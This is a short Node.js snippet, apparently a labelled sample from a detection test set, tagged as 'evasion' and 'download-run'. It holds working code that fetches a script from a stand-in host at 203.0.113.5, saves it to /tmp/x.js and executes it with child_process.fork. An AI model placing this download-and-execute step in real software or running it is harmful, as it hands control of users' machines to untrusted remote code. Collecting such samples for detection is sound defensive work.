// evasion: a downloaded script run with child_process.fork
// grade: medium; does: download-run
const http = require('http'), fs = require('fs');
http.get('http://203.0.113.5/x.js', r => {
  const f = fs.createWriteStream('/tmp/x.js');
  r.pipe(f).on('finish', () => require('child_process').fork('/tmp/x.js'));
});
